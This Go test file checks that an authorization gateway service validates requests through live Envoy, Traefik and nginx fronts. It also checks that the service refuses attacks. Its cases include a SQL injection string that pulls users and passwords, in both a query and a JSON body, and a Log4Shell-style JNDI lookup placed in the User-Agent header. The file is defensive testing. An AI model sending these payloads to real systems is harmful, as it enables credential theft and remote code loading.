package authz

import (
	"encoding/json"
	"io"
	"net/http"
	"os"
	"strings"
	"testing"

	"github.com/portcullis/portcullis/fixtures/gateways"
)

// The snippets that send bodies are what docs/validation.md shows.
const envoyBodySnippet = `{
  "name": "envoy.filters.http.ext_authz",
  "typed_config": {
    "@type": "type.googleapis.com/envoy.extensions.filters.http.ext_authz.v3.ExtAuthz",
    "transport_api_version": "V3",
    "failure_mode_allow": true,
    "with_request_body": {"max_request_bytes": 65536, "allow_partial_message": true, "pack_as_bytes": true},
    "grpc_service": {"envoy_grpc": {"cluster_name": "portcullis"}, "timeout": "0.2s"}
  }
}`

const traefikBodySnippet = `forwardAuth: {address: "http://127.0.0.1:8471/authz", trustForwardHeader: true, forwardBody: true, maxBodySize: 1048576}`

// TestLiveScreen: requests that are not as described, and attacks, through real gateways;
// bodies through those that send them.
func TestLiveScreen(t *testing.T) {
	const item = `{"item":"tea"}`
	cases := []struct {
		method, target, body, agent string
		status                      int
		says                        string
		needsBody                   bool // it is refused only where the body is sent
	}{
		{"GET", "/api/v1/orders/7?limit=5", "", "", 200, "", false},
		{"PUT", "/api/v1/orders/7", item, "", 200, "", false},
		{"GET", "/api/v1/orders/x", "", "", 400, `"in":"path","name":"id","detail":"must be an integer"`, false},
		{"GET", "/api/v1/orders/7?limit=500", "", "", 400, `"name":"limit","detail":"must be at most 100"`, false},
		{"GET", "/api/v1/nothing", "", "", 404, "there is no such path", false},
		{"DELETE", "/api/v1/orders/7", "", "", 405, "no such method", false},
		{"GET", "/api/v1/search?q=1%27%20UNION%20SELECT%20user,password%20FROM%20users--", "", "", 403, "refused for what it holds", false},
		{"GET", "/api/v1/search?q=tea", "", "${jndi:ldap://192.0.2.9/a}", 403, "refused for what it holds", false},
		{"PUT", "/api/v1/orders/7", `{"item":7}`, "", 400, `"in":"body","name":"/item","detail":"must be a string"`, true},
		{"PUT", "/api/v1/orders/7", `{"item":"tea","role":"admin"}`, "", 400, `"name":"/role","detail":"is not described"`, true},
		{"PUT", "/api/v1/orders/7", `{"item":"1' UNION SELECT user,password FROM users--"}`, "", 403, "refused for what it holds", true},
		{"PUT", "/api/v1/orders/7", item + strings.Repeat(" ", 70_000), "", 413, "larger", true},
	}
	for _, f := range []struct {
		front
		bodies bool
	}{{fronts[0], false}, {bodyFront("traefik"), true}, {fronts[2], false}, {bodyFront("envoy"), true}} {
		t.Run(f.name, func(t *testing.T) {
			gateways.Need(t, f.kind)
			cfg, deps := screened(t, modeEnforce, modeEnforce)
			s, err := New(cfg, deps)
			if err != nil {
				t.Fatal(err)
			}
			at, grpc, _ := started(t, s)
			if _, err := s.Apply(t.Context(), nil); err != nil {
				t.Fatal(err)
			}
			g := gateways.Start(t, f.kind, f.o(t, at, grpc))
			for _, c := range cases {
				want := c.status
				if c.needsBody && !f.bodies {
					want = 200
				}
				status, kind, text, allow := told(t, c.method, g.URL+c.target, c.body, c.agent)
				refusal := want != 200
				if status != want || refusal && (kind != "application/problem+json" || !(f.kind == "nginx" && want == 403) && !strings.Contains(text, c.says)) {
					t.Errorf("%s %.60s %.40s: %d %s %.200s, want %d", c.method, c.target, c.body, status, kind, text, want)
				}
				var p problem
				if err := json.Unmarshal([]byte(text), &p); refusal && (err != nil || p.Status != want) {
					t.Errorf("%s: %v, %.200s", c.target, err, text)
				}
				if want == 405 && allow != "GET, HEAD, OPTIONS, PUT" {
					t.Errorf("Allow is %q", allow)
				}
			}
		})
	}
}

// bodyFront is a gateway that sends bodies.
func bodyFront(kind string) front {
	if kind == "envoy" {
		return front{"envoy", kind, true, func(_ testing.TB, _, grpc string) gateways.Options { return envoyOptions(grpc, envoyBodySnippet, "[]") }}
	}
	return front{kind, kind, false, func(_ testing.TB, http, _ string) gateways.Options {
		return gateways.Options{Variant: "trust-xff", Extra: "{" + atPort(traefikBodySnippet, "127.0.0.1:8471", http) + "}"}
	}}
}

// told sends one request and reads the answer.
func told(t *testing.T, method, url, body, agent string) (status int, kind, text, allow string) {
	t.Helper()
	req, err := http.NewRequestWithContext(t.Context(), method, url, strings.NewReader(body))
	if err != nil {
		t.Fatal(err)
	}
	req.Header.Set("X-Forwarded-For", "192.0.2.7")
	if body != "" {
		req.Header.Set("Content-Type", "application/json")
	}
	if agent != "" {
		req.Header.Set("User-Agent", agent)
	}
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	answer, err := io.ReadAll(resp.Body)
	if err != nil {
		t.Fatal(err)
	}
	return resp.StatusCode, resp.Header.Get("Content-Type"), string(answer), resp.Header.Get("Allow")
}

// TestBodySnippets: what the documentation tells people to write is what the test wrote.
func TestBodySnippets(t *testing.T) {
	text, err := os.ReadFile("../../docs/validation.md")
	if err != nil {
		t.Fatal(err)
	}
	for _, snippet := range []string{envoyBodySnippet, traefikBodySnippet} {
		if !strings.Contains(string(text), "\n"+snippet+"\n") {
			t.Errorf("docs/validation.md does not show %.60s", snippet)
		}
	}
}
